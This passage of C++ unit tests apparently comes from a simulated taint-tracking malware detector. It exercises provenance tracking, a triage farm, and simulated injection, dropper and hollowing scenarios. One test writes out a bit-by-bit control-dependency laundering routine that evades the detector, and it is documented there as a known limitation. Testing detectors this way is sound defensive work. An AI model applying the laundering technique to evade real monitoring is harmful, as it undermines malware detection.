TEST(ProvTag, UnpackRejectsBadType) {
  u8 bad1[3] = {0, 0, 0};
  u8 bad2[3] = {5, 0, 0};
  EXPECT_FALSE(ProvTag::unpack(bad1).has_value());
  EXPECT_FALSE(ProvTag::unpack(bad2).has_value());
}

TEST(ProvTag, KeysAreDistinctAcrossTypes) {
  EXPECT_NE(ProvTag::netflow(1).key(), ProvTag::process(1).key());
  EXPECT_NE(ProvTag::file(1).key(), ProvTag::process(1).key());
  EXPECT_NE(ProvTag::netflow(1).key(), ProvTag::netflow(2).key());
}

TEST(NetflowMap, InternIsIdempotentAndOrdered) {
  NetflowMap map;
  FlowTuple a{1, 2, 3, 4};
  FlowTuple b{5, 6, 7, 8};
  u16 ia = map.intern(a);
  u16 ib = map.intern(b);
  EXPECT_EQ(map.intern(a), ia);
  EXPECT_NE(ia, ib);
  EXPECT_EQ(map.get(ia), a);
  EXPECT_EQ(map.get(ib), b);
  EXPECT_EQ(map.size(), 2u);
}

TEST(ProcessMap, ReusedCr3GetsFreshEntryForNewPid) {
  ProcessMap map;
  u16 a = map.intern(0x1000, 100, "a.exe");
  EXPECT_EQ(map.intern(0x1000, 100, "a.exe"), a);
  // The frame backing CR3 0x1000 got recycled into a new process.
  u16 b = map.intern(0x1000, 200, "b.exe");
  EXPECT_NE(a, b);
  EXPECT_EQ(map.get(a).name, "a.exe");   // history preserved
  EXPECT_EQ(map.get(b).name, "b.exe");
  EXPECT_EQ(map.find_by_cr3(0x1000).value_or(999), b);  // latest wins
}

TEST(FileMap, VersionsInternSeparately) {
  FileMap map;
  u16 v1 = map.intern(7, 1, "C:/x");
  u16 v2 = map.intern(7, 2, "C:/x");
  EXPECT_NE(v1, v2);
  EXPECT_EQ(map.intern(7, 1, "C:/x"), v1);
  EXPECT_EQ(map.get(v2).version, 2u);
}

TEST(TagMaps, DescribeRendersPaperStyle) {
  TagMaps maps;
  u16 nf = maps.netflow.intern(
      FlowTuple{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162});
  u16 proc = maps.process.intern(0x2000, 1, "inject_client.exe");
  u16 file = maps.file.intern(1, 2, "C:/x.exe");
  EXPECT_EQ(maps.describe(ProvTag::netflow(nf)),
            "NetFlow: {src ip,port: 169.254.26.161:4444, "
            "dest ip,port: 169.254.57.168:49162}");
  EXPECT_EQ(maps.describe(ProvTag::process(proc)),
            "Process: inject_client.exe");
  EXPECT_EQ(maps.describe(ProvTag::file(file)), "File: C:/x.exe (v2)");
  EXPECT_EQ(maps.describe(ProvTag::export_table()), "ExportTable");
}

// ---------------------------------------------------------------------------

TEST(ProvStore, EmptyListIsIdZero) {
  ProvStore store;
  EXPECT_EQ(store.intern({}), kEmptyProv);
  EXPECT_TRUE(store.get(kEmptyProv).empty());
  EXPECT_FALSE(store.contains_type(kEmptyProv, TagType::kNetflow));
}

TEST(ProvStore, InternDedupesAndIsCanonical) {
  ProvStore store;
  auto a = store.intern({ProvTag::netflow(1), ProvTag::process(2)});
  auto b = store.intern(
      {ProvTag::netflow(1), ProvTag::process(2), ProvTag::netflow(1)});
  EXPECT_EQ(a, b);  // duplicate tag collapses
  auto c = store.intern({ProvTag::process(2), ProvTag::netflow(1)});
  EXPECT_NE(a, c);  // order is chronology: different lists
}

TEST(ProvStore, AppendPreservesOrderAndIsIdempotent) {
  ProvStore store;
  auto id = store.intern({ProvTag::netflow(0)});
  auto id2 = store.append(id, ProvTag::process(1));
  auto id3 = store.append(id2, ProvTag::process(2));
  EXPECT_EQ(store.append(id3, ProvTag::process(1)), id3);  // already there
  const auto& tags = store.get(id3);
  ASSERT_EQ(tags.size(), 3u);
  EXPECT_EQ(tags[0], ProvTag::netflow(0));
  EXPECT_EQ(tags[1], ProvTag::process(1));
  EXPECT_EQ(tags[2], ProvTag::process(2));
}

TEST(ProvStore, MergeIsUnionPreservingLeftOrder) {
  ProvStore store;
  auto a = store.intern({ProvTag::netflow(0), ProvTag::process(1)});
  auto b = store.intern({ProvTag::process(1), ProvTag::file(3)});
  auto m = store.merge(a, b);
  const auto& tags = store.get(m);
  ASSERT_EQ(tags.size(), 3u);
  EXPECT_EQ(tags[0], ProvTag::netflow(0));
  EXPECT_EQ(tags[1], ProvTag::process(1));
  EXPECT_EQ(tags[2], ProvTag::file(3));
  // Identities.
  EXPECT_EQ(store.merge(a, kEmptyProv), a);
  EXPECT_EQ(store.merge(kEmptyProv, b), b);
  EXPECT_EQ(store.merge(a, a), a);
}

TEST(ProvStore, TypeMaskAndProcessCount) {
  ProvStore store;
  auto id = store.intern({ProvTag::netflow(0), ProvTag::process(1),
                          ProvTag::process(2), ProvTag::export_table()});
  EXPECT_TRUE(store.contains_type(id, TagType::kNetflow));
  EXPECT_TRUE(store.contains_type(id, TagType::kProcess));
  EXPECT_TRUE(store.contains_type(id, TagType::kExportTable));
  EXPECT_FALSE(store.contains_type(id, TagType::kFile));
  EXPECT_EQ(store.process_count(id), 2u);
  EXPECT_EQ(store.process_count(kEmptyProv), 0u);
  EXPECT_TRUE(store.contains(id, ProvTag::process(2)));
  EXPECT_FALSE(store.contains(id, ProvTag::process(9)));
}

TEST(ProvStore, CapDropsNewestKeepsOrigin) {
  ProvStore store(/*cap=*/4);
  auto id = store.intern({ProvTag::netflow(0)});
  for (u16 i = 0; i < 10; ++i) id = store.append(id, ProvTag::process(i));
  const auto& tags = store.get(id);
  EXPECT_EQ(tags.size(), 4u);
  EXPECT_EQ(tags[0], ProvTag::netflow(0));  // origin survives
}

TEST(ProvStore, MergeAppendPropertyAgainstReferenceSets) {
  // Property: merge/append behave like ordered-set union/insert.
  ProvStore store;
  Rng rng(42);
  for (int iter = 0; iter < 200; ++iter) {
    std::vector<ProvTag> av, bv;
    for (u32 i = 0; i < rng.below(6); ++i) {
      av.push_back(ProvTag(static_cast<TagType>(1 + rng.below(4)),
                           static_cast<u16>(rng.below(4))));
    }
    for (u32 i = 0; i < rng.below(6); ++i) {
      bv.push_back(ProvTag(static_cast<TagType>(1 + rng.below(4)),
                           static_cast<u16>(rng.below(4))));
    }
    auto a = store.intern(av);
    auto b = store.intern(bv);
    auto m = store.merge(a, b);
    // Reference: a's canonical list then b's new tags.
    std::vector<ProvTag> expect = store.get(a);
    for (const ProvTag& t : store.get(b)) {
      if (std::find(expect.begin(), expect.end(), t) == expect.end()) {
        expect.push_back(t);
      }
    }
    EXPECT_EQ(store.get(m), expect);
    // Merge is memoized: same call yields the same id.
    EXPECT_EQ(store.merge(a, b), m);
  }
}

// ---------------------------------------------------------------------------

TEST(ShadowMemory, SetGetClear) {
  ShadowMemory shadow;
  EXPECT_EQ(shadow.get(100), kEmptyProv);
  shadow.set(100, 5);
  shadow.set(101, 6);
  EXPECT_EQ(shadow.get(100), 5u);
  EXPECT_EQ(shadow.tainted_bytes(), 2u);
  shadow.set(100, kEmptyProv);  // erase
  EXPECT_EQ(shadow.get(100), kEmptyProv);
  EXPECT_EQ(shadow.tainted_bytes(), 1u);
  shadow.clear_range(90, 20);
  EXPECT_EQ(shadow.tainted_bytes(), 0u);
}

TEST(ShadowRegisters, ByteGranularityAndUnion) {
  ProvStore store;
  ShadowRegisters regs;
  auto a = store.intern({ProvTag::netflow(0)});
  auto b = store.intern({ProvTag::file(1)});
  regs.set(3, 0, a);
  regs.set(3, 2, b);
  EXPECT_TRUE(regs.reg_tainted(3));
  EXPECT_FALSE(regs.reg_tainted(4));
  auto u = regs.reg_union(3, store);
  EXPECT_TRUE(store.contains_type(u, TagType::kNetflow));
  EXPECT_TRUE(store.contains_type(u, TagType::kFile));
  regs.clear_reg(3);
  EXPECT_FALSE(regs.reg_tainted(3));
  regs.set_all(5, a);
  EXPECT_EQ(regs.get(5, 3), a);
}

TEST(FileShadow, PerByteKeyedByFileAndOffset) {
  FileShadow fs;
  fs.set(1, 0, 7);
  fs.set(1, 1, 8);
  fs.set(2, 0, 9);
  EXPECT_EQ(fs.get(1, 0), 7u);
  EXPECT_EQ(fs.get(1, 1), 8u);
  EXPECT_EQ(fs.get(2, 0), 9u);
  EXPECT_EQ(fs.get(2, 1), kEmptyProv);
  fs.set(1, 0, kEmptyProv);
  EXPECT_EQ(fs.get(1, 0), kEmptyProv);
  EXPECT_EQ(fs.tainted_bytes(), 2u);
}

}  // namespace
}  // namespace faros::core
