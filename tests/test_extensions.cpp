// Extension features beyond the paper's minimal evaluation:
//  * IAT tagging — loader-resolved import pointers carry the export-table
//    tag (Section V-B: "any pointers ... will likely have been derived ...
//    from the kernel's export tables"), defeating IAT-scan evasion.
//  * Dropper chain — provenance survives a round trip through the file
//    system (Figure 4's full byte lifecycle), so a downloaded, dropped and
//    re-executed stage 2 still carries its netflow origin.
//  * Control-dependency laundering as a *whole attack* — the documented
//    evasion that FAROS (like all DIFT) cannot flag.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "attacks/guest_common.h"
#include "attacks/scenarios.h"
#include "core/engine.h"
#include "core/report.h"
#include "os/runtime.h"

namespace faros {
namespace {

using attacks::emit_sys;
using os::ImageBuilder;
using os::kUserImageBase;
using os::Sys;
using vm::Reg;

constexpr FlowTuple kFlow{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162};

TEST(IatTagging, LoaderResolvedSlotsCarryExportTag) {
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  ASSERT_TRUE(m.boot().ok());

  ImageBuilder ib("imports.exe", kUserImageBase);
  ib.import_symbol(os::sym::kUser32, os::sym::kMessageBox, "iat_mb");
  auto& a = ib.asm_();
  a.label("_start");
  a.label("spin");
  emit_sys(a, Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("iat_mb");
  a.data_u32(0);
  auto img = ib.build();
  ASSERT_TRUE(img.ok());
  m.kernel().vfs().create("C:/imports.exe", img.value().serialize());
  auto pid = m.kernel().spawn("C:/imports.exe");
  ASSERT_TRUE(pid.ok());
  os::Process* p = m.kernel().find(pid.value());

  VAddr slot = kUserImageBase + ib.asm_().label_offset("iat_mb").value();
  core::ProvListId id = engine.prov_at(p->as, slot);
  ASSERT_NE(id, core::kEmptyProv);
  EXPECT_TRUE(engine.store().contains_type(id, core::TagType::kExportTable));
  // Layered on the image's file tag, not replacing it.
  EXPECT_TRUE(engine.store().contains_type(id, core::TagType::kFile));
}

TEST(IatTagging, IatScanningEvasionIsStillFlagged) {
  // Injected (network-tainted) code avoids the export tables and instead
  // reads the victim's already-resolved IAT slot. The slot's bytes are
  // derived from export tables and carry the tag: confluence still fires.
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  ASSERT_TRUE(m.boot().ok());

  ImageBuilder ib("evader.exe", kUserImageBase);
  ib.import_symbol(os::sym::kUser32, os::sym::kMessageBox, "iat_mb");
  auto& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R1, "iat_mb");
  a.ld32(Reg::R9, Reg::R1, 0);  // IAT scan instead of export walk
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 6);
  a.callr(Reg::R9);
  a.label("spin");
  emit_sys(a, Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("iat_mb");
  a.data_u32(0);
  a.label("msg");
  a.data_str("evaded", false);
  auto img = ib.build();
  ASSERT_TRUE(img.ok());
  m.kernel().vfs().create("C:/evader.exe", img.value().serialize());
  auto pid = m.kernel().spawn("C:/evader.exe", /*suspended=*/true);
  ASSERT_TRUE(pid.ok());
  os::Process* p = m.kernel().find(pid.value());

  // Simulate the injection: the program's *code* arrived from the network
  // (the IAT slot itself is loader-written data, not part of the payload).
  u32 code_len = ib.asm_().label_offset("iat_mb").value();
  osi::GuestXfer xfer{p->info(), &p->as, kUserImageBase, code_len};
  engine.on_packet_to_guest(xfer, kFlow);

  p->state = os::ProcState::kReady;
  m.run(50'000);
  ASSERT_FALSE(m.kernel().console().empty());
  EXPECT_EQ(m.kernel().console()[0], "evader.exe: evaded");
  EXPECT_TRUE(engine.flagged()) << "IAT scan must still hit the confluence";
  bool netflow_policy = false;
  for (const auto& f : engine.findings()) {
    if (f.policy == "netflow-export-confluence") netflow_policy = true;
  }
  EXPECT_TRUE(netflow_policy);
}

TEST(DropperChain, ProvenanceSurvivesDiskRoundTrip) {
  attacks::DropperChainScenario sc;
  auto run = attacks::analyze(sc);
  ASSERT_TRUE(run.ok()) << run.error().message;
  const auto& r = run.value();

  // Stage 2 actually ran.
  bool announced = false;
  for (const auto& line : r.replayed.console) {
    if (line.find("stage two alive!") != std::string::npos) announced = true;
  }
  EXPECT_TRUE(announced);
  EXPECT_TRUE(r.recorded.traps.empty()) << r.recorded.traps[0];

  // Flagged, and the chain spans network -> dropper -> file -> stage 2.
  ASSERT_TRUE(r.flagged) << r.report;
  EXPECT_NE(r.report.find("NetFlow"), std::string::npos) << r.report;
  EXPECT_NE(r.report.find("dropper.exe"), std::string::npos) << r.report;
  EXPECT_NE(r.report.find("C:/Temp/update.exe"), std::string::npos)
      << r.report;
  EXPECT_NE(r.report.find("Process: update.exe"), std::string::npos)
      << r.report;
  // Chronology: the netflow tag comes first in the chain.
  size_t nf = r.report.find("NetFlow");
  size_t dr = r.report.find("dropper.exe");
  size_t fl = r.report.find("C:/Temp/update.exe");
  EXPECT_LT(nf, dr);
  EXPECT_LT(dr, fl);
}

TEST(Evasion, ControlDependencyLaunderingDefeatsDetection) {
  // A dedicated attacker copies the downloaded payload bit by bit through
  // branches (paper Section VI-D's example) before executing it: no data
  // flow reaches the executed bytes, so FAROS — by design — cannot flag.
  // This test documents the limitation (and fails loudly if propagation
  // ever silently changes).
  os::Machine m;
  core::FarosEngine engine(m.kernel(), core::Options{});
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  ASSERT_TRUE(m.boot().ok());

  ImageBuilder ib("launder.exe", kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  // Copy "src" (64 bytes, network tainted) to "dst" bit by bit via
  // control flow, then execute dst... here we only check the taint state
  // of dst; executing it would be the payload step.
  a.movi_label(Reg::R1, "src");
  a.movi_label(Reg::R2, "dst");
  a.movi(Reg::R3, 0);  // byte index
  a.label("bytes");
  a.cmpi(Reg::R3, 64);
  a.bgeu("done");
  a.add(Reg::R4, Reg::R1, Reg::R3);
  a.ld8(Reg::R5, Reg::R4, 0);  // tainted input byte
  a.movi(Reg::R6, 0);          // rebuilt output byte
  a.movi(Reg::R7, 1);          // bit mask
  a.label("bits");
  a.cmpi(Reg::R7, 256);
  a.bgeu("bits_done");
  a.and_(Reg::R8, Reg::R5, Reg::R7);
  a.cmpi(Reg::R8, 0);
  a.beq("skip");
  a.or_(Reg::R6, Reg::R6, Reg::R7);
  a.label("skip");
  a.shli(Reg::R7, Reg::R7, 1);
  a.jmp("bits");
  a.label("bits_done");
  a.add(Reg::R4, Reg::R2, Reg::R3);
  a.st8(Reg::R4, 0, Reg::R6);
  a.addi(Reg::R3, Reg::R3, 1);
  a.jmp("bytes");
  a.label("done");
  a.label("spin");
  emit_sys(a, Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("src");
  a.zeros(64);
  a.label("dst");
  a.zeros(64);
  auto img = ib.build();
  ASSERT_TRUE(img.ok());
  m.kernel().vfs().create("C:/launder.exe", img.value().serialize());
  auto pid = m.kernel().spawn("C:/launder.exe", /*suspended=*/true);
  ASSERT_TRUE(pid.ok());
  os::Process* p = m.kernel().find(pid.value());

  VAddr src = kUserImageBase + ib.asm_().label_offset("src").value();
  VAddr dst = kUserImageBase + ib.asm_().label_offset("dst").value();
  osi::GuestXfer xfer{p->info(), &p->as, src, 64};
  engine.on_packet_to_guest(xfer, kFlow);

  p->state = os::ProcState::kReady;
  m.run(200'000);

  // The copy succeeded, but dst carries no taint: the laundering worked.
  for (u32 i = 0; i < 64; ++i) {
    ASSERT_EQ(engine.prov_at(p->as, dst + i), core::kEmptyProv) << i;
  }
  EXPECT_FALSE(engine.flagged());
}


TEST(EarlyWarning, TaintedCodeWritePolicyFiresAtStagingTime) {
  // The optional store-side policy flags the *write* of network bytes into
  // executable memory — before the payload ever executes — at the cost of
  // also flagging JIT hosts (why it is off by default).
  core::Options opts;
  opts.policy_tainted_code_write = true;
  attacks::ReflectiveDllScenario sc(
      attacks::ReflectiveVariant::kReverseTcpDns);
  auto run = attacks::analyze(sc, opts);
  ASSERT_TRUE(run.ok()) << run.error().message;
  ASSERT_TRUE(run.value().flagged);

  u64 staging_at = 0, confluence_at = 0;
  for (const auto& f : run.value().findings) {
    if (f.policy == "tainted-code-write" && staging_at == 0) {
      staging_at = f.instr_index;
      EXPECT_EQ(f.proc.name, "inject_client.exe");
    }
    if (f.policy == "netflow-export-confluence" && confluence_at == 0) {
      confluence_at = f.instr_index;
    }
  }
  ASSERT_NE(staging_at, 0u) << run.value().report;
  ASSERT_NE(confluence_at, 0u);
  EXPECT_LT(staging_at, confluence_at)
      << "staging must be flagged before execution-time confluence";

  // ...and the price: the benign-compute JIT workload now trips it too.
  attacks::JitScenario jit("acceleration", "java.exe", /*linking=*/false);
  auto jit_run = attacks::analyze(jit, opts);
  ASSERT_TRUE(jit_run.ok());
  EXPECT_TRUE(jit_run.value().flagged)
      << "expected the documented FP cost of the early-warning policy";
}

TEST(IsaNames, EveryValidOpcodeHasADistinctNonNullName) {
  // Disassembly, the static analyzer's findings, and the lint JSONL all
  // key on opcode_name(); a missing or duplicated mnemonic would silently
  // corrupt every one of them.
  std::set<std::string> seen;
  u32 valid = 0;
  for (u32 b = 0; b < 256; ++b) {
    if (!vm::opcode_valid(static_cast<u8>(b))) continue;
    ++valid;
    const char* name = vm::opcode_name(static_cast<vm::Opcode>(b));
    ASSERT_NE(name, nullptr) << "opcode 0x" << std::hex << b;
    EXPECT_FALSE(std::string(name).empty()) << "opcode 0x" << std::hex << b;
    EXPECT_TRUE(seen.insert(name).second)
        << "duplicate mnemonic '" << name << "' at opcode 0x" << std::hex
        << b;
  }
  EXPECT_GE(valid, 40u);  // the ISA defines 40+ opcodes; all must be named
}

}  // namespace
}  // namespace faros
