// The corpus-triage farm: queue semantics, determinism across worker
// counts, watchdog timeouts, error isolation/retry, ordered streaming, and
// clean shutdown mid-queue. These tests are the ones the TSan CI job runs
// — they deliberately exercise the concurrent paths hard.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <thread>

#include "attacks/corpus.h"
#include "attacks/programs.h"
#include "core/rules.h"
#include "farm/farm.h"
#include "farm/results.h"
#include "farm/triage_cli.h"
#include "os/machine.h"

namespace faros {
namespace {

using farm::Farm;
using farm::FarmConfig;
using farm::JobResult;
using farm::JobSpec;
using farm::JobStatus;

// A minimal fast job: one helper process that prints and exits (~hundreds
// of instructions), so shutdown/ordering tests can queue many of them.
class TinyScenario final : public attacks::Scenario {
 public:
  explicit TinyScenario(std::string name) : name_(std::move(name)) {}
  std::string name() const override { return name_; }
  Result<void> setup(os::Machine& m) override {
    auto img = attacks::build_helper_program();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create("C:/tiny.exe", img.value().serialize());
    auto pid = m.kernel().spawn("C:/tiny.exe");
    if (!pid.ok()) return Err<void>(pid.error().message);
    return Ok();
  }
  u64 budget() const override { return 50'000; }

 private:
  std::string name_;
};

// Never exits: an idle process spins until the budget or the watchdog.
class SpinScenario final : public attacks::Scenario {
 public:
  std::string name() const override { return "spin_forever"; }
  Result<void> setup(os::Machine& m) override {
    auto img = attacks::build_idle_program("spin.exe");
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create("C:/spin.exe", img.value().serialize());
    auto pid = m.kernel().spawn("C:/spin.exe");
    if (!pid.ok()) return Err<void>(pid.error().message);
    return Ok();
  }
};

// Setup always fails: exercises the kError path and the bounded retry.
class BrokenScenario final : public attacks::Scenario {
 public:
  std::string name() const override { return "broken"; }
  Result<void> setup(os::Machine&) override {
    return Err<void>("missing sample image");
  }
};

JobSpec tiny_job(const std::string& name) {
  JobSpec spec;
  spec.name = name;
  spec.category = "test";
  spec.make = [name] { return std::make_unique<TinyScenario>(name); };
  return spec;
}

std::vector<JobSpec> corpus_jobs(const std::vector<attacks::CorpusEntry>& es) {
  std::vector<JobSpec> jobs;
  for (const auto& e : es) {
    JobSpec spec;
    spec.name = e.name;
    spec.category = e.category;
    spec.expect_flagged = e.expect_flagged;
    spec.make = e.make;
    jobs.push_back(std::move(spec));
  }
  return jobs;
}

TEST(JobQueue, PopBlocksUntilPushAndCloseDrains) {
  farm::JobQueue q;
  q.push(tiny_job("a"));
  q.push(tiny_job("b"));
  q.close();
  auto a = q.pop();
  auto b = q.pop();
  ASSERT_TRUE(a && b);
  EXPECT_EQ(a->name, "a");
  EXPECT_EQ(b->name, "b");
  EXPECT_FALSE(q.pop().has_value());  // closed + empty: no block
}

TEST(JobQueue, CancelWakesBlockedPopperAndPreservesJobs) {
  farm::JobQueue q;
  std::atomic<bool> woke{false};
  std::thread popper([&] {
    EXPECT_FALSE(q.pop().has_value());
    woke = true;
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(10));
  q.cancel();
  popper.join();
  EXPECT_TRUE(woke);
  // A push after cancel is never dispatched, but stays for drain().
  q.push(tiny_job("left-behind"));
  auto left = q.drain();
  ASSERT_EQ(left.size(), 1u);
  EXPECT_EQ(left[0].name, "left-behind");
}

TEST(Farm, InjectionCorpusAllFlaggedAndScored) {
  Farm f(FarmConfig{});
  auto report = f.run(corpus_jobs(attacks::injection_corpus()));
  ASSERT_EQ(report.results.size(), 11u);
  for (const auto& r : report.results) {
    EXPECT_EQ(r.status, JobStatus::kOk) << r.name << ": " << r.error;
    EXPECT_TRUE(r.flagged) << r.name;
    EXPECT_STREQ(r.verdict(), "TP") << r.name;
    EXPECT_FALSE(r.policies.empty()) << r.name;
  }
  EXPECT_EQ(report.metrics.flagged, 11u);
  EXPECT_EQ(report.metrics.errors, 0u);
  EXPECT_LE(report.metrics.p50_ms, report.metrics.p95_ms);
}

TEST(Farm, DeterministicAcrossWorkerCounts) {
  // The whole point of the reorder buffer: the serialised result stream is
  // byte-identical no matter how jobs interleave across workers.
  auto jobs = corpus_jobs(attacks::injection_corpus());
  for (auto& e : attacks::jit_corpus()) {
    JobSpec spec;
    spec.name = e.name;
    spec.category = e.category;
    spec.expect_flagged = e.expect_flagged;
    spec.make = e.make;
    jobs.push_back(std::move(spec));
    if (jobs.size() >= 15) break;  // keep the test fast; mix of categories
  }

  FarmConfig serial_cfg;
  serial_cfg.workers = 1;
  Farm serial(serial_cfg);
  std::string serial_out = farm::results_jsonl(serial.run(jobs));

  FarmConfig wide_cfg;
  wide_cfg.workers = 8;
  Farm wide(wide_cfg);
  std::string wide_out = farm::results_jsonl(wide.run(jobs));

  EXPECT_EQ(serial_out, wide_out);
  EXPECT_FALSE(serial_out.empty());
}

TEST(Farm, MetricsJsonlDeterministicAcrossWorkerCounts) {
  // Same contract as the results stream: per-job counters are a pure
  // function of the spec, so the metrics stream is byte-identical no
  // matter how jobs spread across workers.
  auto jobs = corpus_jobs(attacks::injection_corpus());

  FarmConfig serial_cfg;
  serial_cfg.workers = 1;
  Farm serial(serial_cfg);
  std::string serial_out = farm::metrics_jsonl(serial.run(jobs));

  FarmConfig wide_cfg;
  wide_cfg.workers = 8;
  Farm wide(wide_cfg);
  std::string wide_out = farm::metrics_jsonl(wide.run(jobs));

  EXPECT_EQ(serial_out, wide_out);
  ASSERT_FALSE(serial_out.empty());
  EXPECT_NE(serial_out.find("\"type\":\"job_metrics\""), std::string::npos);
  EXPECT_NE(serial_out.find("\"type\":\"metrics_summary\""),
            std::string::npos);
  EXPECT_NE(serial_out.find("\"insns_retired\":"), std::string::npos);
  // Wall-clock timers must never leak into the deterministic stream.
  EXPECT_EQ(serial_out.find("record_ns"), std::string::npos);
  EXPECT_EQ(serial_out.find("replay_ns"), std::string::npos);
}

TEST(Farm, MetricsOffYieldsEmptyMetricsStream) {
  FarmConfig cfg;
  cfg.engine_opts.collect_metrics = false;
  Farm f(cfg);
  auto report = f.run({tiny_job("quiet")});
  ASSERT_EQ(report.results.size(), 1u);
  EXPECT_FALSE(report.results[0].metrics.collected);
  std::string out = farm::metrics_jsonl(report);
  EXPECT_EQ(out.find("\"type\":\"job_metrics\""), std::string::npos);
  EXPECT_NE(out.find("\"jobs_collected\":0"), std::string::npos);
}

TEST(Machine, CompletedWorkloadBeatsGovernorStop) {
  // The watchdog/completion race, at the machine layer: a governor firing
  // on a workload that has already finished must not turn the terminal
  // state into an abort (the farm would misreport kOk as kTimeout).
  struct AlwaysStop final : os::RunGovernor {
    bool should_stop() override { return true; }
  };
  os::Machine m;
  ASSERT_TRUE(m.boot().ok());
  auto img = attacks::build_helper_program();
  ASSERT_TRUE(img.ok());
  m.kernel().vfs().create("C:/tiny.exe", img.value().serialize());
  ASSERT_TRUE(m.kernel().spawn("C:/tiny.exe").ok());

  // While work is pending the governor aborts before any quantum runs.
  AlwaysStop gov;
  os::RunStats aborted = m.run(50'000, &gov);
  EXPECT_TRUE(aborted.aborted);
  EXPECT_EQ(aborted.instructions, 0u);

  os::RunStats done = m.run(50'000);
  ASSERT_TRUE(done.all_exited);

  // Once everything has exited, the same governor sees completion win.
  os::RunStats after = m.run(50'000, &gov);
  EXPECT_TRUE(after.all_exited);
  EXPECT_FALSE(after.aborted);
}

TEST(Farm, WatchdogCompletionRaceYieldsExactlyOneResult) {
  // Deadlines tuned to land right around job completion: whichever side
  // wins, every job must yield exactly one result, in id order, with a
  // coherent status. (The TSan CI job runs this under race detection.)
  for (int round = 0; round < 3; ++round) {
    FarmConfig cfg;
    cfg.workers = 4;
    std::atomic<u32> delivered{0};
    cfg.on_result = [&](const JobResult&) { ++delivered; };
    Farm f(cfg);

    std::vector<JobSpec> jobs;
    for (int i = 0; i < 48; ++i) {
      JobSpec spec = tiny_job("race" + std::to_string(i));
      spec.timeout_ms = 1 + (i % 3);
      jobs.push_back(std::move(spec));
    }
    auto report = f.run(jobs);
    ASSERT_EQ(report.results.size(), 48u);
    EXPECT_EQ(delivered.load(), 48u);
    for (u32 i = 0; i < report.results.size(); ++i) {
      const JobResult& r = report.results[i];
      EXPECT_EQ(r.id, i);
      EXPECT_TRUE(r.status == JobStatus::kOk ||
                  r.status == JobStatus::kTimeout)
          << r.name << " -> " << farm::job_status_name(r.status);
      // A run reported ok genuinely completed; timeouts carry no verdict.
      if (r.status == JobStatus::kOk) {
        EXPECT_TRUE(r.all_exited) << r.name;
      } else {
        EXPECT_STREQ(r.verdict(), "-") << r.name;
      }
    }
  }
}

TEST(Farm, RunJobMatchesSerialAnalyze) {
  // The farm's job runner must agree with the single-shot harness.
  attacks::HollowingScenario hollow;
  auto direct = attacks::analyze(hollow);
  ASSERT_TRUE(direct.ok());

  Farm f(FarmConfig{});
  JobSpec spec;
  spec.name = "process_hollowing";
  spec.make = [] { return std::make_unique<attacks::HollowingScenario>(); };
  JobResult r = f.run_job(spec);
  ASSERT_EQ(r.status, JobStatus::kOk) << r.error;
  EXPECT_EQ(r.flagged, direct.value().flagged);
  EXPECT_EQ(r.findings, direct.value().findings.size());
  EXPECT_EQ(r.prov_lists, direct.value().prov_lists);
  EXPECT_EQ(r.tainted_bytes, direct.value().tainted_bytes);
}

TEST(Farm, TimeoutReportedWithoutPoisoningPool) {
  FarmConfig cfg;
  cfg.workers = 2;
  Farm f(cfg);

  std::vector<JobSpec> jobs;
  JobSpec runaway;
  runaway.name = "runaway";
  runaway.category = "test";
  runaway.make = [] { return std::make_unique<SpinScenario>(); };
  runaway.budget_override = 2'000'000'000;  // would run for minutes
  runaway.timeout_ms = 100;
  jobs.push_back(std::move(runaway));
  for (int i = 0; i < 4; ++i) jobs.push_back(tiny_job("tiny" + std::to_string(i)));

  auto report = f.run(jobs);
  ASSERT_EQ(report.results.size(), 5u);
  EXPECT_EQ(report.results[0].status, JobStatus::kTimeout);
  EXPECT_EQ(report.results[0].retries, 0u);  // timeouts are not retried
  for (size_t i = 1; i < 5; ++i) {
    EXPECT_EQ(report.results[i].status, JobStatus::kOk)
        << report.results[i].name << ": " << report.results[i].error;
  }
  EXPECT_EQ(report.metrics.timeouts, 1u);
  EXPECT_EQ(report.metrics.ok, 4u);
}

TEST(Farm, HarnessErrorRetriedOnceAndIsolated) {
  FarmConfig cfg;
  cfg.workers = 2;
  cfg.retries = 1;
  Farm f(cfg);

  std::vector<JobSpec> jobs;
  JobSpec broken;
  broken.name = "broken";
  broken.category = "test";
  broken.make = [] { return std::make_unique<BrokenScenario>(); };
  jobs.push_back(std::move(broken));
  jobs.push_back(tiny_job("healthy"));

  auto report = f.run(jobs);
  ASSERT_EQ(report.results.size(), 2u);
  EXPECT_EQ(report.results[0].status, JobStatus::kError);
  EXPECT_EQ(report.results[0].retries, 1u);
  EXPECT_NE(report.results[0].error.find("missing sample image"),
            std::string::npos);
  EXPECT_EQ(report.results[1].status, JobStatus::kOk);
}

TEST(Farm, InjectedRetrySucceedsWithUncontaminatedMetrics) {
  // A retried job's final result must be indistinguishable from a job that
  // succeeded first try (aside from the retries count): every counter and
  // timer from the aborted attempt is discarded with that attempt's
  // JobResult, never folded into the retry's.
  FarmConfig cfg;
  cfg.workers = 1;
  cfg.retries = 1;
  cfg.engine_opts.collect_metrics = true;
  Farm f(cfg);

  JobSpec clean = tiny_job("twin");
  JobSpec flaky = tiny_job("twin");
  flaky.inject_failures = 1;  // first attempt fails, retry succeeds

  JobResult cr = f.run_job(clean);
  JobResult fr = f.run_job(flaky);
  ASSERT_EQ(cr.status, JobStatus::kOk);
  ASSERT_EQ(fr.status, JobStatus::kOk);
  EXPECT_EQ(cr.retries, 0u);
